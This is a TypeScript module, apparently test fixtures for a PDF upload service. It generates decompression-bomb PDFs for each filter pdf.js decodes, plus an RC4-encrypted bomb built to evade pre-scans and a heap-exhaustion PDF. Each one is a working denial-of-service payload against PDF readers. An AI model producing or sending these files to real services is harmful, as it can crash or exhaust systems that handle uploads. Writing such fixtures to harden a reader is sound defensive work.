import { brotliCompressSync, constants, deflateSync } from 'node:zlib';
import { assemblePdf } from './pdf-builder.ts';
import { ascii85Encode, asciiHexEncode, deflatedZeros, lzwZeros, runLengthZeros } from './filter-encoders.ts';
import { rc4Security } from './pdf-rc4.ts';

/**
 * Decompression bombs of every filter pdf.js decodes, generated (never downloaded): each is a valid one-page PDF,
 * well under the 1 MiB upload limit, whose data expands to `total` bytes (512 MiB by default) of zeros.
 */
export const BOMB_KINDS = [
  'single',
  'chained',
  'lzw',
  'ascii85',
  'asciihex',
  'run-length',
  'brotli',
  'object-stream',
  'inline-image',
] as const;
export type BombKind = (typeof BOMB_KINDS)[number];

const MiB = 1024 * 1024;
const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>';
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>';

export function streamObject(dict: string, data: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(`<< ${dict} /Length ${data.length} >>\nstream\n`),
    data,
    Buffer.from('\nendstream'),
  ]);
}

/** The filter list and data of a page's content stream that expands to `total` zeros. */
function contentBomb(kind: Exclude<BombKind, 'object-stream' | 'inline-image'>, total: number): [string, Buffer] {
  const twice = () => deflateSync(deflatedZeros(total));
  switch (kind) {
    case 'single':
      return ['/FlateDecode', deflatedZeros(total)];
    case 'chained':
      return ['[/FlateDecode /FlateDecode]', twice()];
    case 'lzw':
      return ['/LZWDecode', lzwZeros(total)];
    case 'ascii85':
      return ['[/ASCII85Decode /FlateDecode /FlateDecode]', ascii85Encode(twice())];
    case 'asciihex':
      return ['[/ASCIIHexDecode /FlateDecode /FlateDecode]', asciiHexEncode(twice())];
    case 'run-length':
      return ['[/FlateDecode /RunLengthDecode]', deflateSync(runLengthZeros(total))];
    case 'brotli':
      return [
        '/BrotliDecode',
        brotliCompressSync(Buffer.alloc(total), { params: { [constants.BROTLI_PARAM_QUALITY]: 1 } }),
      ];
  }
}

export function bombPdf(kind: BombKind, total = 512 * MiB): Buffer {
  if (kind === 'object-stream') return objectStreamBomb(total);
  if (kind === 'inline-image') {
    const data = deflateSync(deflatedZeros(total));
    const content = Buffer.concat([
      Buffer.from('q 8 0 0 8 72 700 cm\nBI /W 8 /H 8 /BPC 8 /CS /G /F [/Fl /Fl] ID\n'),
      data,
      Buffer.from('\nEI\nQ\n'),
    ]);
    return assemblePdf([CATALOG, PAGES, PAGE, streamObject('', content)]);
  }
  const [filter, data] = contentBomb(kind, total);
  return assemblePdf([CATALOG, PAGES, PAGE, streamObject(`/Filter ${filter}`, data)]);
}

/**
 * The catalog lives in an object stream padded with `total` zeros, found through a cross-reference stream: pdf.js
 * must inflate the whole object stream to open the file at all.
 */
function objectStreamBomb(total: number): Buffer {
  const header = '1 0 ';
  const objStm = deflatedZeros(total, Buffer.from(`${header}${CATALOG}\n`));
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xE2\xE3\xCF\xD3\n', 'latin1')];
  const offsets: number[] = [0, 0];
  let length = parts[0]!.length;
  const add = (num: number, body: Buffer) => {
    offsets[num] = length;
    const chunk = Buffer.concat([Buffer.from(`${num} 0 obj\n`), body, Buffer.from('\nendobj\n')]);
    parts.push(chunk);
    length += chunk.length;
  };
  add(2, Buffer.from(PAGES));
  add(3, Buffer.from('<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>'));
  add(4, streamObject(`/Type /ObjStm /N 1 /First ${header.length} /Filter /FlateDecode`, objStm));
  offsets[5] = length;
  // Entries of /W [1 4 2]: type 0 free, 1 in the file at an offset, 2 compressed in object stream 4.
  const entry = (type: number, field: number, gen: number) => {
    const row = Buffer.alloc(7);
    row[0] = type;
    row.writeUInt32BE(field, 1);
    row.writeUInt16BE(gen, 5);
    return row;
  };
  const rows = [entry(0, 0, 65535), entry(2, 4, 0), ...[2, 3, 4, 5].map((n) => entry(1, offsets[n]!, 0))];
  add(5, streamObject('/Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R', Buffer.concat(rows)));
  parts.push(Buffer.from(`startxref\n${offsets[5]}\n%%EOF\n`));
  return Buffer.concat(parts);
}

/**
 * A single-stage Flate bomb inside an RC4-encrypted file (empty user password, so it opens without asking): no
 * pre-scan can inflate its stream without decrypting it first, so only a bound inside the PDF reader can stop it.
 */
export function encryptedBombPdf(total = 512 * MiB): Buffer {
  const security = rc4Security();
  const data = security.encrypt(4, deflatedZeros(total));
  return assemblePdf([CATALOG, PAGES, PAGE, streamObject('/Filter /FlateDecode', data), security.encryptDict], 1, {
    Encrypt: '5 0 R',
    ID: `[<${security.id}> <${security.id}>]`,
  });
}

/**
 * Not a decompression bomb: one text string of `bytes` characters, well inside the decode budget, which pdf.js turns
 * into an array of one-character strings — about eight times its size in heap, allocated in large steps.
 */
export function heapBombPdf(bytes: number): Buffer {
  const content = Buffer.concat([Buffer.from('BT /F1 12 Tf ('), Buffer.alloc(bytes, 0x61), Buffer.from(') Tj ET')]);
  return assemblePdf([
    CATALOG,
    PAGES,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    streamObject('/Filter /FlateDecode', deflateSync(content)),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ]);
}
